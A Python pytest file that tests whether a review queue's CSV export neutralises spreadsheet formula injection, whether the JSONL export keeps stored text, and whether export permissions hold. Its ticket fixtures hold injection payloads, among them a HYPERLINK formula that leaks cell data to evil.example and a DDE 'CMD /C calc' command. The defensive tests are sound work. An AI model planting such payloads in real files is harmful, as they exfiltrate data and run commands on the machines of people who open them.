"""The corrections export: safe to open in a spreadsheet, and holding every reviewer's answers by choice."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from tests.integration.conftest import ADMIN, KEY_SPEC, PREDICT, REVIEW

BOB_KEY = "bob-review-key-0001"
BOB = {"Authorization": f"Bearer {BOB_KEY}"}
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")

#: Every text column of the export opens with a character a spreadsheet would act on.
ALICE_TICKET = {
    "ticket_id": "=1+1",
    "subject": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
    "description": "+CMD|' /C calc'!A0 then the printer jammed",
    "channel": "@SUM(1,2)",
    "customer_tier": "-2+3",
    "urgency": "\thigh",
}
BOB_TICKET = {
    "ticket_id": "-42",
    "subject": "\rcarriage return first",
    "description": "@@ two at signs, then a plain description",
    "channel": "email",
    "customer_tier": "'=already quoted",
    "urgency": "+low",
}


@pytest.fixture
def queue(make_client: Callable[..., TestClient], tmp_path: Path) -> TestClient:
    """Every answer routed to review; alice and bob review, helpdesk predicts, ops is admin."""
    return make_client(
        routing_threshold=0.999,
        routing_rule="threshold",  # the threshold alone decides, whichever rule the bundle chose
        database_file=tmp_path / "export.sqlite3",
        api_keys=KEY_SPEC + f",bob:review:{BOB_KEY}",
    )


def _resolve_one(client: TestClient, ticket: dict[str, Any], reviewer: dict[str, str]) -> dict[str, Any]:
    answer = client.post("/predict", json=ticket, headers=PREDICT)
    assert answer.status_code == 200, answer.text
    claimed = client.post("/reviews/claim", headers=reviewer)
    assert claimed.status_code == 200, claimed.text
    assert claimed.json()["id"] == answer.json()["review_id"]
    category = answer.json()["category"]
    done = client.post(
        f"/reviews/{claimed.json()['id']}/resolve", json={"category": category}, headers=reviewer
    )
    assert done.status_code == 200, done.text
    return done.json()


def _csv_rows(client: TestClient, headers: dict[str, str]) -> list[dict[str, str]]:
    response = client.get("/reviews/export", params={"format": "csv"}, headers=headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_csv_export_neutralises_formula_cells_and_keeps_the_text(queue: TestClient) -> None:
    _resolve_one(queue, ALICE_TICKET, REVIEW)
    _resolve_one(queue, BOB_TICKET, BOB)
    rows = _csv_rows(queue, REVIEW)
    cells = [(column, value) for row in rows for column, value in row.items()]
    dangerous = [(column, value) for column, value in cells if value.startswith(FORMULA_LEADS)]
    print(
        f"\nCSV export: {len(rows)} rows, {len(cells)} cells, {len(dangerous)} start with a formula character"
    )
    assert dangerous == []

    by_id = {row["ticket_id"]: row for row in rows}
    assert set(by_id) == {"'=1+1", "'-42"}
    for ticket, row in ((ALICE_TICKET, by_id["'=1+1"]), (BOB_TICKET, by_id["'-42"])):
        for column, original in ticket.items():
            if original.startswith(FORMULA_LEADS):
                assert row[column] == "'" + original, column  # one quote, then the text unchanged
            else:
                assert row[column] == original, column  # "'=already quoted" too: it is not a formula


def test_jsonl_export_keeps_the_stored_text(queue: TestClient) -> None:
    _resolve_one(queue, ALICE_TICKET, REVIEW)
    response = queue.get("/reviews/export", params={"format": "jsonl"}, headers=REVIEW)
    assert response.status_code == 200, response.text
    [row] = [json.loads(line) for line in response.text.splitlines()]
    assert {column: row[column] for column in ALICE_TICKET} == ALICE_TICKET


def test_every_reviewer_exports_every_resolution_and_predict_keys_get_403(queue: TestClient) -> None:
    """The export's scope is a documented choice: all corrections are training data, whoever made them."""
    alice = _resolve_one(queue, ALICE_TICKET, REVIEW)
    bob = _resolve_one(queue, BOB_TICKET, BOB)
    assert (alice["resolved_by"], bob["resolved_by"]) == ("alice", "bob")

    for headers in (REVIEW, BOB, ADMIN):
        assert sorted(row["ticket_id"] for row in _csv_rows(queue, headers)) == ["'-42", "'=1+1"]
    refused = queue.get("/reviews/export", headers=PREDICT)
    assert refused.status_code == 403
    assert refused.json()["error"]["code"] == "forbidden"
    assert queue.get("/reviews/export").status_code == 401
